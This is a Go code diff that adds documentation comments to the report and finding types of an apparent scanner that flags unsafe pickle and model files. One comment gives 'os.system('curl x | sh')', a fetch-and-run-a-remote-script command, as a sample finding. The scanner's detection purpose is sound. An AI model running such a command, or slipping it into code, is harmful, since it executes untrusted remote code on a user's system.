@@ -36,21 +36,36 @@ const (
 
 // Report is the result of scanning one file.
 type Report struct {
-	Path     string    `json:"path"`
+	// Path is the file's path (File) or the name given to Reader.
+	Path string `json:"path"`
+	// Format is what the content is: "pickle", "pytorch-zip",
+	// "pytorch-legacy", "pytorch-tar", "zip", "npz", "keras", "tar", "npy",
+	// "safetensors", "parquet", "avro", "csv", "json", "hdf5", "onnx",
+	// "gzip", "bz2", "xz", "lzma", "zlib", "lz4", "zstd", "7z", "rar",
+	// "text" or "unknown".
 	Format   string    `json:"format"`
 	Verdict  Verdict   `json:"verdict"`
 	Findings []Finding `json:"findings,omitempty"`
-	Summary  *Summary  `json:"summary,omitempty"`
+	// Summary counts rows, columns and tensors of the safe formats.
+	Summary *Summary `json:"summary,omitempty"`
 }
 
 // Finding is one observation about a file or a member inside it.
 type Finding struct {
-	Member   string   `json:"member,omitempty"`
-	Format   string   `json:"format"`
-	Severity string   `json:"severity"`
-	Message  string   `json:"message"`
-	Globals  []Global `json:"globals,omitempty"`
-	Calls    []string `json:"calls,omitempty"`
+	// Member is the path inside a container, "archive/data.pkl"; members
+	// of nested containers are joined with "!": "inner.zip!data.pkl".
+	Member string `json:"member,omitempty"`
+	// Format is the format of the member the finding is about.
+	Format string `json:"format"`
+	// Severity is one of the Severity constants.
+	Severity string `json:"severity"`
+	// Message is one line a user understands.
+	Message string `json:"message"`
+	// Globals lists a pickle's imports in the order they appear.
+	Globals []Global `json:"globals,omitempty"`
+	// Calls reconstructs calls of globals that are not safe, as Python:
+	// "os.system('curl x | sh')".
+	Calls []string `json:"calls,omitempty"`
 }
 
 // Global is a callable or class a pickle imports when it is loaded.
